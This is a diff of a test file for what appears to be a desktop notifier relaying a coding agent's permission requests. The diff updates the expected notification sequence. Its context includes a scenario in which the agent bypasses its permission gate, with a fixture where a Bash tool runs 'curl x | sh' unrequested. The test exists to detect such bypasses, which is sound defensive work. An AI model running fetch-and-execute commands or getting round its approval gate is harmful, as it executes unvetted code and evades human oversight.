@@ -43,7 +43,8 @@ describe.skipIf(process.platform !== "linux")("the person's desktop", () => {
     await expect.poll(desktop.told, SOON).toEqual([["shown", "Claude Code in shop", "Asks for your permission. Answer in Earshot."]]);
     const asked = desktop.told();
     await decide(hub, request);
-    await expect.poll(() => desktop.told().map(([method]) => method), SOON).toEqual(["shown", "withdrawn"]);
+    // The second one is about the first approver.
+    await expect.poll(() => desktop.told().map(([method]) => method), SOON).toEqual(["shown", "shown", "withdrawn"]);
 
     // The agent bypasses its gate: a tool ran without a request.
     const [, ran] = aepCall("shop", { id: "call_unasked", tool: "Bash", input: { command: "curl x | sh" }, seconds: [1, 2], output: "" });
